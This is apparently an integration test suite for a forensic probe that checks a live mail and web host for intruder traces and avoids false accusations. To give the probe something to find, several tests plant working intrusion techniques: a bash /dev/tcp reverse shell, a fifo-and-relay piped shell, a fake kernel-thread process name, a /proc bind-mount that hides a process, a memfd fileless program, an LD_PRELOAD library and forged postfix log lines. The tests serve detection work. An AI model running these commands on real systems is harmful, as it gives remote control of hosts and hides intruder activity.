"""The probe on a running host: one that is busy with everyday things accuses nobody, and what an intruder left running on it is found."""
import json
import os
import pathlib
import shutil
import socket
import subprocess

from live_case import TESTS, LiveCase
from scenarios import abuse
from stage import web
from stage.network import PROVIDER, VISITORS
from waiting import wait_for

PROBE = TESTS.parent / "build/release/bin/rescue-probe"
FOLDER = "var/tmp/.rescue-test"
UPDATED = ("/usr/sbin/cron", "/usr/sbin/sshd", "/usr/sbin/apache2", "/usr/lib/postfix/sbin/master", "/usr/lib/x86_64-linux-gnu/libc.so.6")


class EvidenceTest(LiveCase):
    roles = ("mail", "gallery")
    systemd = True

    def look(self):
        """The document, as root over SSH from where the services run."""
        folder = pathlib.Path(self.host.root) / FOLDER
        folder.mkdir(exist_ok=True)
        os.chmod(folder, 0o700)
        shutil.copy(PROBE, folder / "rescue-probe")
        done = self.host.log_in("root", f"cd / && /{FOLDER}/rescue-probe investigate --root / --live --out /{FOLDER}/out.json")
        self.assertTrue(done.opened, done)
        document = json.loads((folder / "out.json").read_text())
        shutil.rmtree(folder)
        return document

    def sit_at_a_terminal(self, user):
        """A log-in with a terminal, which stays; it ends with the test."""
        options = ("-tt", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR")
        sitting = subprocess.Popen(["ssh", *options, "-i", str(self.host.keys[user].private), f"{user}@{self.host.address}", "echo here; cat"],
                                   stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.addCleanup(lambda: (sitting.stdin.close(), sitting.stdout.close(), sitting.kill(), sitting.wait()))
        self.assertIn(b"here", sitting.stdout.readline())

    def start(self, command):
        """Something that runs on the host until the test ends; returns its number."""
        pid = self.host.shell(f"setsid sh -c {command!r} >/dev/null 2>&1 </dev/null & echo $!").strip()
        self.addCleanup(self.host.shell, f"kill -KILL -{pid} || true")
        return pid

    def test_1_a_busy_host_right_after_an_update_accuses_nobody(self):
        abuse.usual_mail(self.host, 20)
        for visitor in VISITORS[:5]:
            web.request(visitor, "/", host=self.host.address)
        # As dpkg does it: the new file takes the old one's name.
        for path in UPDATED:
            self.host.shell(f"cp -a {path} {path}.dpkg-new && mv {path}.dpkg-new {path}")
        self.sit_at_a_terminal("ops")
        document = self.look()
        told = [finding for finding in document["findings"] if finding["severity"] != "info"]
        self.assertEqual(told, [])
        self.assertEqual(document["verdict"]["intrusion"]["state"], "none_found", [gap for gap in document["gaps"] if gap.get("grave")])
        self.assertIn("live.replaced_program", [finding["rule"] for finding in document["findings"]])
        live_part = document["live"]
        self.assertIn("ops", [login["account"] for login in live_part["logins"]])
        ours = {process["name"] for process in live_part["processes"] if process.get("ours")}
        self.assertLessEqual({"sshd", "rescue-probe"}, ours)
        listeners = {(listener["port"], listener["package"]) for listener in live_part["listeners"]}
        self.assertLessEqual({(22, "openssh-server"), (25, "postfix"), (80, "apache2-bin"), (143, "dovecot-core")}, listeners)

    def test_2_what_an_intruder_left_running_is_found(self):
        with socket.create_server((PROVIDER, 0)) as far_away:
            self.host.shell("mkdir -p /dev/shm/.x && cp /usr/bin/sleep /dev/shm/.x/run && cp /usr/bin/sleep /opt/run")
            self.start("/dev/shm/.x/run 600")
            self.start("exec bash -c \"exec -a [kworker/1:2] /opt/run 600\"")
            self.start(f"exec bash -c \"exec bash --norc -i <>/dev/tcp/{PROVIDER}/{far_away.getsockname()[1]} >&0 2>&0\"")
            shell, _ = far_away.accept()
            with shell:
                wait_for("the shell", lambda: shell.recv(64))
                self.host.shell("rm -r /dev/shm/.x")
                document = self.look()
        found = {finding["rule"]: finding for finding in document["findings"] if finding["severity"] in ("high", "critical")}
        self.assertEqual(set(found), {"live.deleted_odd_program", "live.kernel_thread_name", "live.reverse_shell"})
        self.assertEqual(found["live.reverse_shell"]["address"], PROVIDER)
        self.assertEqual(document["verdict"]["intrusion"]["state"], "confirmed")

    def test_3_a_shell_behind_pipes_and_a_covered_process_are_found(self):
        """As `mkfifo`, sh and nc do it; perl copied under nc's name passes the bytes on. What the cover hides is a process that would be harmless."""
        pass_on = ("use IO::Socket::INET; $s = IO::Socket::INET->new(shift) or die; $| = 1; if (!fork) { while (sysread($s, $b, 512)) { syswrite(STDOUT, $b) } exit } "
                   "while (sysread(STDIN, $b, 512)) { syswrite($s, $b) }")
        with socket.create_server((PROVIDER, 0)) as far_away:
            script = pathlib.Path(self.host.root) / "root/pass-on.pl"
            script.write_text(pass_on)
            self.host.shell("cp /usr/bin/perl /usr/bin/nc && mkfifo /root/f")
            self.start(f"sh -i </root/f 2>&1 | exec nc /root/pass-on.pl {PROVIDER}:{far_away.getsockname()[1]} >/root/f")
            shell, _ = far_away.accept()
            with shell:
                wait_for("the shell", lambda: shell.recv(64))
                covered = self.start("exec sleep 601")
                wait_for("it to be itself", lambda: "sleep" in self.host.shell(f"cat /proc/{covered}/comm"))
                self.host.shell(f"mkdir -p /root/empty && mount --bind /root/empty /proc/{covered}")
                try:
                    document = self.look()
                finally:
                    self.host.shell(f"umount /proc/{covered}; rm -r /root/f /root/empty /root/pass-on.pl /usr/bin/nc")
        found = {finding["rule"]: finding for finding in document["findings"] if finding["severity"] in ("high", "critical") and finding["rule"].startswith("live.")}
        self.assertEqual(set(found), {"live.piped_shell", "live.process_mount"})
        self.assertEqual(found["live.piped_shell"]["address"], PROVIDER)
        self.assertIn(covered, found["live.process_mount"]["title"])

    def test_4_code_that_is_in_no_package_is_found_in_memory(self):
        """A program that is no file, and a library that an environment brings in."""
        in_memory = "$name = \"x\"; $f = syscall(319, $name, 0); open($o, \">&=\", $f); open($i, \"<\", \"/usr/bin/sleep\"); binmode $_ for $i, $o; print {$o} <$i>; $o->flush; exec(\"/proc/self/fd/$f\", 602)"
        (pathlib.Path(self.host.root) / "root/in-memory.pl").write_text("use IO::Handle; $^F = 99; " + in_memory)
        memory = self.start("exec perl /root/in-memory.pl")
        self.host.shell("cp /usr/lib/x86_64-linux-gnu/libm.so.6 /var/tmp/.m.so")
        preloaded = self.start("exec env LD_PRELOAD=/var/tmp/.m.so sleep 603")
        wait_for("the one", lambda: "602" in self.host.shell(f"cat /proc/{memory}/cmdline"))
        wait_for("the other", lambda: self.host.shell(f"cat /proc/{preloaded}/comm").strip() == "sleep")
        document = self.look()
        self.host.shell("rm /root/in-memory.pl /var/tmp/.m.so")
        found = {finding["rule"] for finding in document["findings"] if finding["severity"] in ("high", "critical")}
        self.assertLessEqual({"live.memory_program", "live.preloaded", "live.foreign_library"}, found)

    def test_5_who_writes_lines_in_the_mail_servers_name_gets_nobody_suspended(self):
        """A user accuses another's account by logger(1); journald knows who wrote the lines."""
        lines = {"submission/smtpd": "client=unknown[203.0.{0}.77], sasl_method=LOGIN, sasl_username=" + abuse.ABUSED,
                 "qmgr": "from=<x{0}@bank.example>, size=2000, nrcpt=50 (queue active)"}
        for program, line in lines.items():
            text = "".join(f"4F2A1C{number:05}: {line.format(number)}\n" for number in range(1, 31))
            path = pathlib.Path(self.host.root) / "home/ops/lines"
            path.write_text(text)
            path.chmod(0o644)
            done = self.host.log_in("ops", f"logger -p mail.info -t postfix/{program} -f /home/ops/lines; rm -f /home/ops/lines")
            self.assertTrue(done.opened, done)
        wait_for("the lines", lambda: "x30@bank.example" in (pathlib.Path(self.host.root) / "var/log/mail.log").read_text())
        document = self.look()
        accused = [finding for finding in document["findings"] if finding["rule"] == "mail.account_abused"]
        self.assertEqual([(finding["account"], finding.get("doubtful")) for finding in accused], [(abuse.ABUSED, True)])
        self.assertNotEqual(document["verdict"]["mail_abuse"]["state"], "confirmed")
        self.assertIn("traces.journal_forged", [finding["rule"] for finding in document["findings"]])

    def test_6_without_a_text_log_the_journal_tells_whose_mail_it_was(self):
        """As on a Debian 12 that was given no rsyslog."""
        self.host.shell("systemctl stop syslog.socket rsyslog.service; rm -f /var/log/mail.log* /var/log/syslog*")
        owner = next(iter(abuse.OWNERS))
        self.assertEqual(abuse.with_password(self.host, 250, owner), 250)
        self.host.drain()
        document = self.look()
        self.assertEqual(document["verdict"]["mail_abuse"]["ways"], ["abused_account"])
        accused = [finding for finding in document["findings"] if finding["rule"] == "mail.account_abused" and not finding.get("doubtful")]
        self.assertEqual([finding["account"] for finding in accused], [owner])
        self.assertIn(".journal", accused[0]["evidence"][0]["file"])
